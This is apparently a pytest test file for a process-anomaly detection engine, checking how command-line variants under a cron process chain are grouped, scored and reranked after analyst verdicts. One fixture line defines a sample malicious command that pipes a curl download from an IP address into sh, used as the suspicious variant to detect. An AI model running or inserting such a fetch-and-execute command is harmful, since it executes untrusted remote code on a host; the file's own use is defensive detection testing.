"""Rows of learners: the variants of chains, bounded, and what verdicts on processes say of them."""

from __future__ import annotations

import tracemalloc
from dataclasses import replace

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.classifier.model import Classifier
from engine.classifier.params import ClassifierParams
from engine.domain.verdicts import Verdict
from engine.rules.rule import RuleSet
from engine.verdicts import variants as module
from engine.verdicts.features import VariantFeatures
from engine.verdicts.lessons import lesson_of, presumed_normal
from engine.verdicts.queue import Effect, LearntQueue
from engine.verdicts.rerank import rerank
from engine.verdicts.resolve import winning
from engine.verdicts.variants import MOST, REST, ChainVariants
from engine.verdicts.verdicts import MIXED, BaseQueue, Verdicts
from engine.words.command_shape import shape_number
from tests.engine.classifier.queues import queue_of, told_of
from tests.engine.process_samples import Row, make_table

CRON = ("/usr/lib/systemd/systemd", "/usr/sbin/cron")
SHELL = (*CRON, "/bin/sh")
EVERYDAY, FETCHED = "sh -c 'debian-sa1 1 1'", "sh -c 'curl http://203.0.113.9/x | sh'"
WINDOWS = ("c:\\windows\\system32\\services.exe", "c:\\windows\\system32\\svchost.exe")


def cron() -> tuple[BaseQueue, VariantFeatures]:
    """Below cron forty runs of one command and one of another, and other chains of Linux and Windows."""
    rows: list[Row] = [(CRON[:1], -1, None), (CRON, 0, "cron -f")]
    rows += [(SHELL, 1, EVERYDAY) for _ in range(40)] + [(SHELL, 1, FETCHED)]
    rows += [((*CRON, f"/usr/bin/tool{name}"), 1, f"tool{name} --run") for name in "abcdefghijkl"]
    rows += [(WINDOWS[:1], -1, None)]
    top = len(rows) - 1
    rows += [((*WINDOWS, f"c:\\program files\\app\\{name}.exe"), top, f"{name}.exe -k") for name in "abcdefghijkl"]
    corpus, table = make_table(rows)
    own = np.full(len(table), 0.5) + 0.01 * np.arange(len(table)) / len(table)
    own[42] = 3.0
    score = table.highest(own, len(corpus))
    rank = np.empty(len(corpus), dtype=np.int64)
    rank[np.argsort(-score, kind="stable")] = np.arange(1, len(corpus) + 1)
    base = queue_of(corpus, table, score, rank, own)
    return base, VariantFeatures.of(corpus, table, base.variants)


BASE, FEATURES = cron()
CHAIN = BASE.corpus.keys.index(next(key for row, key in enumerate(BASE.corpus.keys) if BASE.corpus.counts[row] == 41))
LINUX = np.array([BASE.corpus.paths[steps[0]].startswith("/") for steps in BASE.corpus.steps])


def variant(line: str) -> int:
    rows = np.flatnonzero((BASE.variants.chain == CHAIN) & (BASE.variants.shape == shape_number(line)))
    return int(rows[0])


def odd_in(row: int) -> tuple[int, int]:
    """Best finding that a variant is odd in, and how many of its processes are."""
    pair = int(np.flatnonzero(BASE.variants.variant == row)[0])
    return int(BASE.variants.finding[pair]), int(BASE.variants.odd[pair])


def learn(said: list[tuple[int, int, int, bool, Verdict, int]]) -> tuple[LearntQueue, Verdicts]:
    verdicts = told_of(BASE, said)
    return rerank(BASE, verdicts, FEATURES), verdicts


def test_a_chains_command_lines_are_told_apart_with_counts_and_scores() -> None:
    everyday, fetched = variant(EVERYDAY), variant(FETCHED)
    assert BASE.variants.processes[[everyday, fetched]].tolist() == [40, 1]
    assert BASE.variants.score[fetched] == pytest.approx(3.0)
    assert BASE.variants.score[everyday] < 0.6
    assert odd_in(fetched) == (1, 1)
    ours, theirs = (FEATURES.matrix(np.array([row])).toarray() for row in (everyday, fetched))
    assert (ours != theirs).any()


def test_a_false_positive_on_one_variant_puts_aside_no_other_one_of_its_chain() -> None:
    everyday, fetched = variant(EVERYDAY), variant(FETCHED)
    learnt, _ = learn([(everyday, 0, 1, False, Verdict.FALSE_POSITIVE, 40)])
    assert learnt.effect[CHAIN] == Effect.NONE
    assert learnt.order[0] == BASE.rank[CHAIN] == 1  # it stands where its other variant puts it
    assert learnt.finding_order[0] == 1
    for verdict in (Verdict.FALSE_POSITIVE, Verdict.BENIGN):
        learnt, _ = learn([(fetched, 1, 1, True, verdict, 1)])
        assert learnt.effect[CHAIN] == Effect.NONE
        assert learnt.finding_order[-1] == 1  # nothing is left of it
        assert int(learnt.finding_top[-1]) == BASE.rank[CHAIN]
        # The chain goes on at the place of its everyday variant.
        place = int(np.flatnonzero(learnt.order == BASE.rank[CHAIN])[0])
        assert len(BASE) // 3 < place < len(BASE) - 1


def test_a_malicious_variant_makes_no_positive_of_its_chains_everyday_one() -> None:
    everyday, fetched = variant(EVERYDAY), variant(FETCHED)
    learnt, verdicts = learn([(fetched, 1, 1, True, Verdict.MALICIOUS, 1)])
    lesson = lesson_of(BASE, verdicts)
    assert lesson.rows[lesson.malicious].tolist() == [fetched]
    assert everyday in presumed_normal(BASE, verdicts).tolist()
    assert learnt.finding_order[0] == 1


def test_what_a_finding_takes_along_teaches_only_where_it_is_most_of_its_variant() -> None:
    everyday, fetched = variant(EVERYDAY), variant(FETCHED)
    said = [(fetched, 1, 1, True, Verdict.MALICIOUS, 1), (everyday, 1, 1, False, Verdict.MALICIOUS, 3)]
    _, verdicts = learn(said)
    assert verdicts.malicious.tolist() == [fetched]
    _, verdicts = learn([said[0], (everyday, 1, 1, False, Verdict.MALICIOUS, 20)])
    assert verdicts.malicious.tolist() == sorted([everyday, fetched])
    assert not verdicts.whole[verdicts.rows == everyday].any()


def test_a_variant_of_both_classes_teaches_nothing() -> None:
    everyday, fetched = variant(EVERYDAY), variant(FETCHED)
    _, verdicts = learn([(everyday, 1, 1, True, Verdict.MALICIOUS, 20), (everyday, 2, 2, True, Verdict.BENIGN, 20)])
    assert verdicts.verdict.tolist() == [MIXED]
    assert len(verdicts.malicious) == len(verdicts.negative) == 0
    _, verdicts = learn([(fetched, 1, 1, True, Verdict.MALICIOUS, 1), (everyday, 2, 2, True, Verdict.BENIGN, 40)])
    assert (verdicts.malicious.tolist(), verdicts.negative.tolist()) == ([fetched], [everyday])
    assert CHAIN not in verdicts.chain.tolist()  # as a row of the queue it is undecided


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.sampled_from([row for row in range(len(BASE.variants)) if not LINUX[BASE.variants.chain[row]]]),
            st.sampled_from(list(Verdict)),
        ),
        max_size=8,
    )
)
def test_no_verdict_on_one_system_moves_what_is_of_another(given_: list[tuple[int, Verdict]]) -> None:
    """Verdicts on Windows only: what is of Linux keeps its order, and its places but for what was decided above and below it."""
    pairs = {int(row): number for row, number in zip(BASE.variants.variant, BASE.variants.finding, strict=True)}
    said = dict(given_)
    verdicts = told_of(
        BASE,
        [
            (row, pairs.get(row, 0), row + 1, row in pairs, verdict, int(BASE.variants.processes[row]))
            for row, verdict in said.items()
        ],
    )
    learnt = rerank(BASE, verdicts, FEATURES)
    row_of = np.argsort(BASE.rank)
    of_linux = [rank for rank in learnt.order.tolist() if LINUX[row_of[rank - 1]]]
    assert of_linux == sorted(of_linux)
    place = {rank: position + 1 for position, rank in enumerate(learnt.order.tolist())}
    assert all(abs(place[rank] - rank) <= len(said) for rank in of_linux)
    assert np.isnan(learnt.probability[LINUX]).all()
    assert np.isnan(learnt.instant[LINUX]).all()
    assert set(learnt.effect[LINUX].tolist()) == {Effect.NONE}
    chain = BASE.variants.chain[BASE.variants.variant]
    linux_findings = set(BASE.variants.finding[LINUX[chain]].tolist())
    numbers = [number for number in learnt.finding_order.tolist() if number in linux_findings]
    assert numbers == sorted(numbers)
    where = {number: position + 1 for position, number in enumerate(learnt.finding_order.tolist())}
    assert all(abs(where[number] - number) <= len(said) for number in numbers)
    assert (np.diff(learnt.finding_score) <= 0).all()


def test_a_million_command_lines_are_not_a_million_rows() -> None:
    """Of one chain the oddest are told apart, then the most frequent; the rest is one row that teaches nothing and is told of."""
    names = [f"{a}{b}" for a in "abcdefghijklmnop" for b in "qrstuvwxyz"]
    rows: list[Row] = [(CRON, -1, None)] + [(SHELL, 0, f"sh run-{name}") for name in [*names, *names[:40]]]
    corpus, table = make_table(rows)
    own = np.full(len(table), 1.0)
    own[100] = 2.0
    found = ChainVariants.of(table, len(corpus), own, np.ones(len(table), np.int64))
    assert len(found) == 1 + MOST + 1
    rest = int(np.flatnonzero(found.shape == REST)[0])
    assert found.processes[rest] == len(names) - MOST
    assert found.folded == (1, int(found.processes[rest]))
    kept = set(found.shape.tolist())
    assert shape_number(f"sh run-{names[99]}") in kept  # the oddest
    assert {shape_number(f"sh run-{name}") for name in names[:40]} <= kept  # run twice
    assert found.processes.sum() == len(table)
    score = np.array([0.5, 2.0])
    base = BaseQueue(corpus, table, score, np.array([2, 1]), np.ones(2, np.int64), found, np.array([2.0]))
    verdicts = told_of(base, [(rest, 1, 1, True, Verdict.MALICIOUS, int(found.processes[rest]))])
    assert not verdicts.teaches.any()
    features = VariantFeatures.of(corpus, table, found)
    learnt = rerank(base, verdicts, features)
    assert learnt.abstains
    assert learnt.metrics["folded"] == [1, found.processes[rest]]
    assert f"the rarest {found.processes[rest]} processes are taught as one" in learnt.metrics["sentence"]


@settings(max_examples=50, deadline=None)
@given(
    lines=st.lists(
        st.tuples(st.integers(0, 2), st.sampled_from([None, EVERYDAY, FETCHED, "x a", "x b"])), min_size=1, max_size=30
    ),
    most=st.integers(1, 4),
)
def test_variants_hold_every_process_once(lines: list[tuple[int, str | None]], most: int) -> None:
    chains = (CRON, SHELL, (*SHELL, "/usr/bin/x"))
    corpus, table = make_table([(chains[at], -1, line) for at, line in lines])
    before = module.MOST
    module.MOST = most
    try:
        found = ChainVariants.of(
            table, len(corpus), np.arange(len(table), dtype=np.float64), np.arange(len(table)) % 3, table.time_us % 2 == 0
        )
    finally:
        module.MOST = before
    row = found.of_processes(table.chain.astype(np.int64), table.shapes())
    assert (row >= 0).all()
    assert np.array_equal(found.chain[row], table.chain)
    told = found.shape[row]
    assert np.array_equal(told[told != REST], table.shapes()[told != REST])
    assert np.array_equal(np.bincount(row, minlength=len(found)), found.processes)
    assert np.bincount(found.chain, minlength=len(corpus)).max() <= most + 1
    best = np.full(len(found), -1.0)
    np.maximum.at(best, row, np.arange(len(table), dtype=np.float64))
    assert np.array_equal(best, found.score)
    odd = (np.arange(len(table)) % 3 > 0) & (table.time_us % 2 == 0)
    wanted: dict[tuple[int, int], int] = {}
    for at in np.flatnonzero(odd).tolist():
        wanted[at % 3, int(row[at])] = wanted.get((at % 3, int(row[at])), 0) + 1
    pairs = zip(found.finding.tolist(), found.variant.tolist(), strict=True)
    assert dict(zip(pairs, found.odd.tolist(), strict=True)) == wanted


def test_the_verdict_that_counts_among_several() -> None:
    counts = np.zeros((5, max(Verdict) + 1), dtype=np.int64)
    counts[0, Verdict.MALICIOUS] = 1
    counts[1, [Verdict.MALICIOUS, Verdict.BENIGN]] = 9, 1
    counts[2, [Verdict.BENIGN, Verdict.FALSE_POSITIVE]] = 2, 2
    counts[3, [Verdict.BENIGN, Verdict.FALSE_POSITIVE]] = 1, 2
    counts[4, [Verdict.UNDETERMINED, Verdict.MALICIOUS]] = 7, 1
    assert winning(counts).tolist() == [Verdict.MALICIOUS, MIXED, Verdict.BENIGN, Verdict.FALSE_POSITIVE, Verdict.MALICIOUS]


def test_the_lstm_tells_variants_of_one_chain_apart_by_their_command_lines() -> None:
    everyday, fetched = variant(EVERYDAY), variant(FETCHED)
    _, verdicts = learn([(fetched, 1, 1, True, Verdict.MALICIOUS, 1), (everyday, 2, 2, True, Verdict.BENIGN, 40)])
    model = Classifier(ClassifierParams(device="cpu", steps=60, members=1)).fit(BASE, FEATURES, verdicts, RuleSet())
    bad, good = model.log_odds(BASE, FEATURES, rows=np.array([fetched, everyday])).tolist()
    assert bad > good + 1


def test_variants_are_made_in_little_memory_for_each_process() -> None:
    """Bytes a process beside the table: with columns of 64 bits, several of them at one time, they were 73."""
    corpus, few = make_table([(CRON, -1, None), (SHELL, -1, EVERYDAY), (SHELL, -1, FETCHED)])
    size, columns = 150_000, ("row", "chain", "image", "parent", "host", "time_us", "command", "privilege", "recorded")
    table = replace(few, **{name: np.resize(getattr(few, name), size) for name in columns})
    score, finding, odd = np.ones(size, np.float32), np.arange(size) % 3, np.arange(size) % 2 == 0
    tracemalloc.start()
    found = ChainVariants.of(table, len(corpus), score, finding, odd)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert found.processes.tolist() == [size // 3] * 3
    assert peak / size < 60
